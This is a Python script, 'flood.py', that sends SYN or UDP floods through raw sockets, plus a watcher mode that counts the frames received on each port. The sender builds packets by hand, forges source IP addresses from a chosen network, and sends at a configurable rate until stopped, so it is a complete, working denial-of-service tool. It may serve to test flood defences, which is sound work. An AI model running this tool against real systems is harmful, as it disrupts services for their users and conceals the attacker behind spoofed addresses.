#!/usr/bin/env python3
"""Hostile traffic and its witness, on raw sockets of one interface.

flood.py send IFACE MAC SOURCE-NET TARGET KIND:PORT… [--rate N] [--sources N]
    sends until it is ended; KIND is syn or udp; then prints how many frames
flood.py watch IFACE PORT…
    until it is ended; then prints how many frames came to each destination port, and in all
"""
import argparse
import ipaddress
import random
import signal
import socket
import struct
import sys
import time


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff


def packet(source, target, kind, source_port, port):
    if kind == "syn":
        body = struct.pack("!HHIIBBHHH", source_port, port, random.getrandbits(32), 0, 0x50, 2,
                           64000, 0, 0)
        protocol, at = 6, 16
    else:
        body = struct.pack("!HHHH", source_port, port, 16, 0) + b"flooding"
        protocol, at = 17, 6
    pseudo = source + target + struct.pack("!BBH", 0, protocol, len(body))
    body = body[:at] + struct.pack("!H", checksum(pseudo + body)) + body[at + 2:]
    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(body), random.getrandbits(16), 0, 64,
                       protocol, 0, source, target)
    return head[:10] + struct.pack("!H", checksum(head)) + head[12:] + body


class Ended(Exception):
    pass


def end(*_):
    raise Ended


def send(options):
    raw = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    raw.bind((options.interface, 0))
    ethernet = (bytes.fromhex(options.mac.replace(":", "")) + raw.getsockname()[4] + b"\x08\x00")
    target = socket.inet_aton(options.target)
    sources = [host.packed for host in ipaddress.ip_network(options.source_net).hosts()]
    random.shuffle(sources)
    sources = sources[:options.sources]
    frames = []
    for _ in range(20_000):
        kind, port = random.choice(options.what).split(":")
        frames.append(ethernet + packet(random.choice(sources), target, kind,
                                        random.randrange(1024, 65536), int(port)))
    sent, started = 0, time.monotonic()
    try:
        while True:
            for frame in frames[sent % len(frames):][:64]:
                try:
                    raw.send(frame)
                    sent += 1
                except OSError:  # the queue is full
                    time.sleep(0.0005)
            ahead = sent / options.rate - (time.monotonic() - started)
            if ahead > 0:
                time.sleep(ahead)
    except Ended:
        print(sent)


def watch(options):
    raw = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0003))
    raw.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 64 << 20)
    raw.bind((options.interface, 0))
    ports, total = dict.fromkeys(options.ports, 0), 0
    try:
        while True:
            frame, address = raw.recvfrom(2048)
            if address[2] == socket.PACKET_OUTGOING:
                continue
            total += 1
            if frame[12:14] == b"\x08\x00" and frame[23] in (6, 17):
                at = 14 + (frame[14] & 15) * 4 + 2
                port = int.from_bytes(frame[at:at + 2], "big")
                if port in ports:
                    ports[port] += 1
    except Ended:
        print(*ports.values(), total)


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    verbs = parser.add_subparsers(required=True)
    verb = verbs.add_parser("send")
    for name in ("interface", "mac", "source_net", "target"):
        verb.add_argument(name)
    verb.add_argument("what", nargs="+")
    verb.add_argument("--rate", type=float, default=30_000)
    verb.add_argument("--sources", type=int, default=1000)
    verb.set_defaults(run=send)
    verb = verbs.add_parser("watch")
    verb.add_argument("interface")
    verb.add_argument("ports", nargs="+", type=int)
    verb.set_defaults(run=watch)
    options = parser.parse_args()
    signal.signal(signal.SIGTERM, end)
    options.run(options)
    sys.stdout.flush()


if __name__ == "__main__":
    main()
